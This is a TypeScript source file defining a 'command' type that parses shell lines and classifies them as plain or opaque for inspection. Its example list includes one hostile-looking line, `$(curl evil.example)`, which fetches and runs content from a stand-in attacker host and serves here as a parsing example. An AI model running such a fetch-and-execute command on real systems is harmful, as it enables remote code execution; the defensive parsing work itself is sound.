// The parsed type `command`: a shell line, and what it runs where that can be told.
import { BOOL, listOf, optional, STRING } from "../../../core/types/type.ts";
import type { RecordType } from "../../../core/types/type.ts";
import type { ParsedTypeDefinition, ParsedValue } from "../../../core/types/parsed-type.ts";
import { grammar } from "../grammar.ts";
import { mustParse, parsedText } from "../parsed-text.ts";
import { MAX_ARGS, MAX_CALLS, MAX_WORDS, readCommand } from "./read-command.ts";
import type { ShellCall } from "./read-command.ts";

export const commandGrammar = grammar({ pattern: "[^\\x{0}]*", maxLength: 131_072 });

const CALL: RecordType = {
  kind: "record",
  open: false,
  fields: [
    { name: "program", type: STRING, doc: "The program as written." },
    { name: "name", type: STRING, doc: "The last segment of the program in lower case, without `.exe`." },
    // The words of all calls share one bound, which is what a list of them is held to.
    { name: "args", type: listOf(STRING, MAX_WORDS), doc: "The words behind it, unquoted." },
    {
      name: "literal",
      type: BOOL,
      doc: "False when the shell replaces an argument by names of files or a home directory.",
    },
  ],
};

const callValue = (call: ShellCall): ReadonlyMap<string, unknown> => new Map(Object.entries(call));

export function parseCommand(text: string): ParsedValue | undefined {
  if (!commandGrammar.accepts(text)) return undefined;
  const plain = readCommand(text);
  if (plain === undefined) return parsedText(text, text, () => ({ plain: false }));
  const { calls, words, reads, writes, pipes } = plain;
  return parsedText(text, text, () => ({
    plain: true,
    programs: calls.map((call) => call.program),
    names: calls.map((call) => call.name),
    calls: calls.map(callValue),
    words,
    reads,
    writes,
    pipes,
  }));
}

const ONLY_PLAIN = "Present only when the line is plain";

export const command: ParsedTypeDefinition = {
  name: "command",
  doc: `A shell line. It is *plain* when dash, bash and zsh (as in \`sh -c\`, without aliases and functions of the user) read it alike and run the programs that it lists and no other: simple commands joined by \`&&\`, \`||\`, \`;\`, \`|\` and line ends, with literal words and redirections to literal files. Everything else is opaque, and so is a line of more than ${MAX_CALLS} calls, ${MAX_WORDS} words, or ${MAX_ARGS} words behind one program.`,
  parts: {
    plain: { type: BOOL, doc: "Whether all that the shell runs is known." },
    programs: {
      type: optional(listOf(STRING, MAX_CALLS)),
      doc: `The programs as written, builtins included, in order. ${ONLY_PLAIN}, and then never empty.`,
    },
    names: {
      type: optional(listOf(STRING, MAX_CALLS)),
      doc: `The last segments of the programs in lower case: \`rm\` for \`/bin/RM\`. ${ONLY_PLAIN}.`,
    },
    calls: {
      type: optional(listOf(CALL, MAX_CALLS)),
      doc: `The programs with their arguments. ${ONLY_PLAIN}.`,
    },
    words: {
      type: optional(listOf(STRING, MAX_WORDS)),
      doc: `Every word: programs, arguments, files of redirections. ${ONLY_PLAIN}.`,
    },
    reads: {
      type: optional(listOf(STRING, MAX_WORDS)),
      doc: `Files that redirections read. ${ONLY_PLAIN}; may be empty.`,
    },
    writes: {
      type: optional(listOf(STRING, MAX_WORDS)),
      doc: `Files that redirections write, but for /dev/null. ${ONLY_PLAIN}; may be empty. What programs write by themselves is not here.`,
    },
    pipes: { type: optional(BOOL), doc: `Whether output of one program is input of another. ${ONLY_PLAIN}.` },
  },
  grammar: commandGrammar,
  examples: {
    valid: [
      "ls",
      "git push origin main",
      "cd src && grep -rn 'a b' . | head -5",
      "$(curl evil.example)",
      "",
    ].map((text) => ({ text, canonical: text })),
    invalid: ["ls\u0000"],
  },
  parse: parseCommand,
  get zero() {
    return mustParse(parseCommand, "");
  },
};
